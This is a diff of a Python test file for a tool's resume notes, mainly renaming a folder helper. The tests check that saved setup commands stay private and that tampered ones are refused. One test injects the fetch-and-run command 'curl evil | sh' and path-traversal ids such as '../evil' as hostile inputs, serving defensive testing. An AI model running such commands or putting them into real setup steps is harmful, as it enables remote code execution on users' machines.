@@ -16,7 +16,7 @@ from gswarm_tui.options.arguments import Options, parse
 from gswarm_tui.run import build, interrupted
 from gswarm_tui.run.finish import finish
 from gswarm_tui.run.plan import Plan
-from gswarm_tui.run.resume_notes import ResumeNote, notes_folder, read_note, remove_note, write_note
+from gswarm_tui.run.resume_notes import NOTES, read_note, remove_note, write_note
 from gswarm_tui.store.recording.recorder import Recorder
 
 SETUP = "curl -u me:hunter2zq7 https://host/env; export DB_PASS=hunter2zq7; my_own_login hunter2zq7"
@@ -58,17 +58,17 @@ async def test_setup_is_private_until_the_recording_is_closed(tmp_path: Path) ->
         started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
     finally:
         os.umask(before)
-    (note,) = notes_folder().glob("*.json")
+    (note,) = NOTES.path.glob("*.json")
     assert (note.stat().st_mode & 0o777, note.parent.stat().st_mode & 0o777) == (0o600, 0o700)
     ((one,), _) = interrupted.find(tmp_path, path)
     assert await finish(one, SETTINGS, StringIO()) == 0
-    assert list(notes_folder().glob("*.json")) == []
+    assert list(NOTES.path.glob("*.json")) == []
 
 
 async def test_recover_without_the_saved_setup_asks_for_it(tmp_path: Path) -> None:
     path = tmp_path / "run.duckdb"
     started(path, ["--nodes", "n1", "--setup", SETUP]).close(None)
-    shutil.rmtree(notes_folder())
+    shutil.rmtree(NOTES.path)
     ((one,), _) = interrupted.find(tmp_path, path)
     with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
         one.preview(SETTINGS)
@@ -84,7 +84,7 @@ async def test_neither_a_setup_in_the_file_nor_the_private_one_is_run_for_change
     ((one,), _) = interrupted.find(tmp_path, path)
     options = dict(one.interrupted.options) | {"setup": "curl evil | sh", "nodes": ["evil"]}
     if forgotten:
-        shutil.rmtree(notes_folder())
+        shutil.rmtree(NOTES.path)
     evil = interrupted.InterruptedRun(path, replace(one.interrupted, options=options), trusted=True)
     with pytest.raises(UserError, match="GSWARM_TUI_SETUP"):
         evil.restore(SETTINGS)
@@ -92,8 +92,8 @@ async def test_neither_a_setup_in_the_file_nor_the_private_one_is_run_for_change
 
 @pytest.mark.parametrize("uid", ["../evil", "/evil", "", ".evil", "a" * 200, "a\0b"])
 def test_recording_with_a_strange_id_reaches_no_other_file(state: Path, uid: str) -> None:
-    write_note("a1", {}, ResumeNote("true"))
-    (state / "gswarm-tui/evil.json").write_text((notes_folder() / "a1.json").read_text())
+    write_note("a1", {}, "true")
+    (state / "gswarm-tui/evil.json").write_text((NOTES.path / "a1.json").read_text())
     assert read_note(uid, {}) is None
     remove_note(uid)
     assert (state / "gswarm-tui/evil.json").exists()
@@ -102,12 +102,12 @@ def test_recording_with_a_strange_id_reaches_no_other_file(state: Path, uid: str
 @pytest.mark.root("give files away")
 @pytest.mark.parametrize("name", ["a1.json", "key"])
 def test_note_or_key_of_another_user_is_ignored(name: str) -> None:
-    write_note("a1", {}, ResumeNote("true"))
-    assert read_note("a1", {}) == ResumeNote("true")
-    os.chown(notes_folder() / name, 65534, 65534)
+    write_note("a1", {}, "true")
+    assert read_note("a1", {}) == "true"
+    os.chown(NOTES.path / name, 65534, 65534)
     assert read_note("a1", {}) is None
-    os.chown(notes_folder() / name, os.geteuid(), -1)
-    notes_folder().chmod(0o770)
+    os.chown(NOTES.path / name, os.geteuid(), -1)
+    NOTES.path.chmod(0o770)
     assert read_note("a1", {}) is None
 
 
@@ -120,4 +120,4 @@ async def test_full_or_closed_state_folder_is_reported(tmp_path: Path, state: Pa
     await asyncio.to_thread(recorder.close, hub.now())
     (event,) = hub.fleet.event_log
     what = "will ask before it connects, and need --setup again"
-    assert event.message.startswith(f"gswarm-tui recover {what}: {notes_folder()}: ")
+    assert event.message.startswith(f"gswarm-tui recover {what}: {NOTES.path}: ")
